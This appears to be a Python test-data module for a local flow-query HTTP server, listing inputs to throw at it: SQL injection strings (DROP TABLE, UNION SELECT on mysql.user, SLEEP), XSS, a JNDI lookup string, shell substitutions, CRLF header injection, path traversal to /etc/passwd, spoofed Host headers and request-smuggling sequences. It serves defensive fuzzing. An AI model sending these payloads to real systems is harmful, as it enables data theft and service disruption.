"""What is tried against the server: values for every parameter, paths, and requests to the byte.

MARK is in whatever could show up again: an answer in HTML must not have it, and no header may.
"""
MARK = "zq7attack"

# For every parameter of every path: as they are before they are percent-encoded.
VALUES = [
    # SQL: ends of strings, comments, stacked statements, unions, time, files, both dialects' own
    "'", '"', "`", "\\", "\\'", "';", "--", "#", "/*", "*/", ";", "%", "_", "(", ")", "()", ",", ",,", "=", "!", "*",
    "' OR '1'='1", "' OR 1=1 -- ", '" OR ""="', "1 OR 1=1", "1' OR '1'='1' /*", "1) OR (1=1", "') OR ('a'='a",
    "1; DROP TABLE flows_600; --", "'; DROP TABLE flows_600_data; --", "1; DELETE FROM import_ledger",
    "1; UPDATE flows_600_data SET octetDeltaCount=0", "'; INSERT INTO loss VALUES (1,'%s','x',1); --" % MARK,
    "1 UNION SELECT 1,2,3,4", "0 UNION ALL SELECT name,value,1,1 FROM flowimport_schema", "' UNION SELECT NULL -- ",
    "-1 UNION SELECT user,authentication_string FROM mysql.user", "1 UNION SELECT sql FROM sqlite_master",
    "octetDeltaCount; DROP TABLE loss", "octetDeltaCount desc; DROP TABLE loss", "flows desc, (SELECT SLEEP(60))",
    "(SELECT 1 FROM (SELECT SLEEP(60)) AS x)", "1 AND SLEEP(60)", "SLEEP(60)", "BENCHMARK(1000000000,MD5(1))",
    "IF(1=1,SLEEP(60),0)", "1 AND (SELECT COUNT(*) FROM flows_600 a, flows_600 b, flows_600 c, flows_600 d) > 0",
    "randomblob(1000000000)", "load_extension('/tmp/%s')" % MARK, "LOAD_FILE('/etc/passwd')",
    "1 INTO OUTFILE '/tmp/%s'" % MARK, "ATTACH DATABASE '/tmp/%s' AS x" % MARK, "PRAGMA writable_schema=1",
    "1 PROCEDURE ANALYSE()", "@@version", "version()", "sqlite_version()", "CHAR(39)", "0x27", "X'27'", "{fn now()}",
    "EXTRACTVALUE(1,CONCAT(0x7e,version()))", "/*!50000 SELECT*/", "1/**/OR/**/1=1", "1\nOR\n1=1", "1\tOR\t1=1",
    "\u02bc OR 1=1", "\uff07 OR 1=1", "\u2019; DROP TABLE loss", "?", "? ? ?", ":a", "@a", "$1", "%s%s%s%n%n%n",
    "%d%d%d%d", "%99999999d", "bucket AS bucket", "bucket bucket", "MAX(bucket)", "id,id,id", "flows_600.bucket",
    "flows_millionths", "octetDeltaCount asc desc", "desc", " desc", "*,*", "rowid", "flowimport_schema",
    # markup, and what else might be run by who reads the answer
    "<script>alert('%s')</script>" % MARK, "\"><img src=x onerror=alert(%s)>" % MARK, "</title><svg onload=%s>" % MARK,
    "javascript:%s" % MARK, "=cmd|'/C %s'!A0" % MARK, "@SUM(%s)" % MARK, "{{7*7}}%s" % MARK, "${jndi:ldap://%s}" % MARK,
    "`%s`" % MARK, "$(%s)" % MARK, "| %s" % MARK, "\u202e%s" % MARK, "\u2028%s" % MARK, "\ufeff%s" % MARK,
    # header injection
    "x\r\nX-Injected: %s" % MARK, "x\nSet-Cookie: %s=1" % MARK, "x\r\n\r\n<html>%s" % MARK, "\r", "\n", "\r\n",
    "\u560d\u560aX-Injected: %s" % MARK, "\x0b", "\x7f", "\x1b[31m%s" % MARK, "\x01\x02\x03",
    # numbers
    "-1", "0", "-0", "+1", "1e9", "1e308", "1e400", "0x10", "010", "1.5", "NaN", "Infinity", "-Infinity", "inf", "nan",
    "2147483647", "2147483648", "-2147483649", "4294967295", "4294967296", "9223372036854775807",
    "9223372036854775808", "-9223372036854775808", "-9223372036854775809", "18446744073709551615",
    "18446744073709551616", "9" * 400, "-" + "9" * 400, "0." + "0" * 400 + "1", "1_000", "1,000", "\u0661\u0662",
    "\uff11", "\u00b2", " 1", "1 ", "", " ", "\t", "null", "undefined", "true", "[]", "{}", "[object Object]",
    # filters and lists
    "host=", "host=,", "=x", "!!host=1.2.3.4", "host=1.2.3.4/33", "host=1.2.3.4/-1", "host=::/129", "host=::1::",
    "host=1.2.3.4.5", "host=256.1.1.1", "port=65536", "port=5-1", "port=-1", "port=0-65535-1", "proto=256",
    "proto=nosuch", "class=x", "family=5", "host=\"", 'host="""', 'host="a"b', "nosuch=1", "host==1.2.3.4",
    "host=1.2.3.4,", "host=1.2.3.4 ! host=1.2.3.4", "host=%s" % ("1" * 300), "port=" + ",".join(map(str, range(65))),
    " ".join("!port=%d" % port for port in range(33)), " ".join("port=%d" % (port % 65536) for port in range(400)),
    "(" * 1000, "(((((port=1)))))", "!" * 1000, "," * 4000, ",".join(["bucket"] * 500), "a" * 4096, "a" * 4097,
    "host=10.0.0.0/8 port=443 or 1=1", "host=fe80::1%25eth0", "host=::ffff:10.0.0.1", "src=10.0.0.1;dst=10.0.0.2",
    "10.0.0.1,10.0.0.2,10.0.0.3/0", "0.0.0.0/0", "::/0", "src,dst,host", "src,src", "-24h", "now-", "-99999999999d",
    "2023-02-30", "2023-11-14T25:00Z", "0000-00-00", "99999-01-01", "now", "1970-01-01", "3000-01-01",
]

# Queries as they go out: what encoding can do.
QUERIES = [
    "%00", "n=%00", "n=1%00", "filter=%00host=1.2.3.4", "%", "n=%", "n=%1", "n=%zz", "n=%-1", "n=%u0031", "n=%%35",
    "filter=%c0%27", "filter=%c0%80", "filter=%e0%80%a7", "filter=%f0%80%80%a7", "filter=%ed%a0%80",
    "filter=%f8%88%80%80%80", "filter=%ff", "filter=%fe%ff", "filter=%80", "filter=%c3", "filter=%ef%bf%bf",
    "filter=%2527", "filter=%252527%20OR%201", "n=1&n=2", "n=1&n=x", "n=x&n=1", "n=1;n=2", "n[]=1", "n[0]=1", "=",
    "=1", "&", "&&&&", "&" * 7000, "n", "n=", "?n=1", "n=1?n=2", "n=1#n=2", "N=1", "%6e=1", "n%3d1", " n=1".strip(),
    "+n=1", "n+=1", "&".join("a%d=1" % i for i in range(33)), "&".join("n=1" for i in range(40)),
    "&".join("a%d=1" % i for i in range(1000)), "a" * 7000, "filter=" + "a" * 7000, "filter=" + "%61" * 2300,
    "%s=<script>" % MARK, "<script>%s</script>=1" % MARK, "%3Cscript%3E" + MARK, "callback=" + MARK, "format=html",
    "format=../../etc/passwd", "__proto__=1", "constructor=1", "sort=flows&sort=nosuch", "%0d%0aX-Injected:%20" + MARK,
]

# Paths: every one of them leads nowhere.
PATHS = [
    "/../etc/passwd", "/../../../../../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
    "/%2e%2e%2fetc%2fpasswd", "/%252e%252e%252fetc%252fpasswd", "/..%252f..%252fetc%252fpasswd", "/....//etc/passwd",
    "/..;/etc/passwd", "/..\\..\\etc\\passwd", "/..%5c..%5cetc%5cpasswd", "/%c0%ae%c0%ae/etc/passwd",
    "/%e0%80%ae%e0%80%ae/etc/passwd", "/.%00./etc/passwd", "/etc/passwd%00.html", "/index.html%00", "/%00",
    "/api/../../etc/passwd", "/api/%2e%2e/%2e%2e/etc/passwd", "/api/query/../../../etc/passwd", "/api/query%00",
    "/api/query%2f", "/api/query/", "/api//query", "//api/query", "/api/./query", "/./api/query", "/api/query;x=1",
    "/API/QUERY", "/api/Query", "/%61pi/query", "/api/%71uery", "/api%2fquery", "/api", "/api/", "/api/index/foo",
    "/api/index/../index/nodes", "/api/dynamic/index/foo", "/api/hostinfo/", "/api/bucket/query//", "/api/nosuch",
    "/api/" + "a" * 4000, "/" + "/" * 4000, "/" + "../" * 1300, "/file:///etc/passwd", "/proc/self/environ",
    "/.git/config", "/flows.db", "/flowimport.conf", "/.htpasswd", "/assets/../flows.db", "/app.js/../../flows.db",
    "/favicon.ico%20", "/%3Cscript%3E%s%3C/script%3E".replace("%s", MARK), "/%0d%0aX-Injected:%20" + MARK,
    "/%0aSet-Cookie:%20%s=1".replace("%s", MARK), "/%", "/%zz", "/%2", "/~root", "/cgi-bin/" + MARK, "/*", "/$(id)",
    "/'", "/%27%20OR%201=1", "/" + MARK, "/%ff%fe", "/\xff\xfe",
]

# Requests for another host, or who knows whose: refused.
FOREIGN = [
    "Host: evil.example", "Host: localhost.evil.example", "Host: evil.example:80@localhost", "Host:",
    "Host: localhost\r\nHost: evil.example", "Host: evil.example\r\nHost: localhost",
    "Host: localhost%00.evil.example", "Host: [::1", "Host: " + "a" * 4000, "Host: <script>%s</script>" % MARK,
    "Host: evil.example\r\nX-Forwarded-Host: localhost", "Host : localhost", "Host: localhost, evil.example",
    "Host: localhost evil.example", "Host: localhost\tevil.example", "Host: 127.1.evil.example",
    "Host: 0x7f000001", "Host: 2130706433", "Host: localhost#", "Host: localhost/", "Host: *", "Host: ..",
]

GET = "GET /api/meta HTTP/1.1\r\nHost: localhost\r\n"
NEXT = "GET /status HTTP/1.1\r\nHost: localhost\r\n\r\n"
# Requests to the byte, in Latin-1. Each gets one answer, and no more.
REQUESTS = [
    # the Host header
    "GET /api/meta HTTP/1.1\r\n\r\n", "GET /api/meta HTTP/1.1\r\n Host: localhost\r\n\r\n",
    "GET http://evil.example@localhost/api/meta HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    # methods
    "POST /api/meta HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n",
    "PUT /api/meta HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\n\r\nabc",
    "DELETE /api/query HTTP/1.1\r\nHost: localhost\r\n\r\n", "PATCH /api/query HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", "OPTIONS /api/query HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "TRACE /api/query HTTP/1.1\r\nHost: localhost\r\nX-Secret: %s\r\n\r\n" % MARK,
    "CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n", "PROPFIND / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "NOSUCH /api/meta HTTP/1.1\r\nHost: localhost\r\n\r\n", "get /api/meta HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "A" * 5000 + " / HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET\x00 /api/meta HTTP/1.1\r\nHost: localhost\r\n\r\n",
    # request lines
    "GET /api/meta HTTP/9.9\r\nHost: localhost\r\n\r\n", "GET /api/meta HTTP/0.9\r\nHost: localhost\r\n\r\n",
    "GET /api/meta HTTP/2.0\r\nHost: localhost\r\n\r\n", "GET /api/meta HTTP/1.1x\r\nHost: localhost\r\n\r\n",
    "GET /api/meta\r\nHost: localhost\r\n\r\n", "GET  HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET\r\n\r\n", " \r\n\r\n",
    "GET /api/meta SMTP/1.1\r\nHost: localhost\r\n\r\n", "GET api/meta HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /api/meta HTTP/1.1 HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET\t/api/meta\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /api/meta?\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET /api/meta?a\rb HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /" + "a" * 100000 + " HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /api/query?filter=" + "a" * 100000 + " HTTP/1.1\r\nHost: localhost\r\n\r\n", "a" * 100000,
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "EHLO evil.example\r\n", "*1\r\n$4\r\nPING\r\n", "\r\n\r\n\r\n\r\n", "\n",
    # headers
    GET + "X: " + "a" * 100000 + "\r\n\r\n", GET + "a" * 100000 + ": x\r\n\r\n", GET + "X: y\r\n" * 5000 + "\r\n",
    GET + "\r\n".join("X%d: y" % i for i in range(500)) + "\r\n\r\n", GET + "no colon\r\n\r\n", GET + ": empty\r\n\r\n",
    GET + "X\x00Y: z\r\n\r\n", GET + "X: a\x00b\r\n\r\n", GET + " folded: x\r\n\r\n", GET + "X: a\r\n b\r\n\r\n",
    GET + "X: a\rY: b\r\n\r\n", GET + "Range: bytes=0-1,2-3,4-5\r\n\r\n",
    GET + "If-None-Match: " + "\"a\"," * 900 + "\r\n\r\n",
    GET + "If-None-Match: *\r\n\r\n", GET + "Accept-Encoding: " + "gzip;q=0," * 500 + "\r\n\r\n",
    GET + "Authorization: Basic !!!!\r\n\r\n", GET + "Authorization: Basic " + "QUFB" * 1000 + "\r\n\r\n",
    GET + "Authorization: Digest username=\"%s\"\r\n\r\n" % MARK, GET + "Expect: 100-continue\r\n\r\n",
    GET + "Expect: %s\r\n\r\n" % MARK, GET + "Connection: close, Host\r\n\r\n", GET + "Upgrade: h2c\r\n\r\n",
    GET + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\n\r\n",
    GET + "X-Original-URL: /status\r\nX-Rewrite-URL: /status\r\n\r\n", GET + "X-HTTP-Method-Override: DELETE\r\n\r\n",
    GET + "Origin: https://evil.example\r\n\r\n", GET + "Cookie: " + "a=b;" * 1500 + "\r\n\r\n",
    # where one request ends and the next begins
    GET + "Content-Length: 5\r\n\r\nabcde", GET + "Content-Length: -1\r\n\r\n", GET + "Content-Length: x\r\n\r\n",
    GET + "Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef", GET + "Content-Length: 5, 6\r\n\r\nabcdef",
    GET + "Content-Length: +5\r\n\r\nabcde", GET + "Content-Length: 0x5\r\n\r\nabcde",
    GET + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", GET + "Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
    GET + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n\r\n",
    GET + "Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n",
    GET + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + NEXT,
    GET + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + NEXT,
    GET + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", GET + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    GET + "Transfer-Encoding: identity\r\nContent-Length: 2\r\n\r\nab",
    GET + "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "POST /api/meta HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n" + "a" * 100000,
    "POST /api/meta HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n" + "5\r\nabcde\r\n" * 5000,
    "POST /api/meta HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
]

# Requests that are never complete: after the client has closed its end, no answer is owed.
UNFINISHED = [
    "\x00" * 1000, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "\x00" * 200, "{}", "", "GET", GET, GET + "X: y",
    GET + "Content-Length: 99999999999999999999\r\n\r\n", GET + "Content-Length: 1000000\r\n\r\nabc",
    GET + "Transfer-Encoding: chunked\r\n\r\n", GET + "Transfer-Encoding: chunked\r\n\r\n0",
]
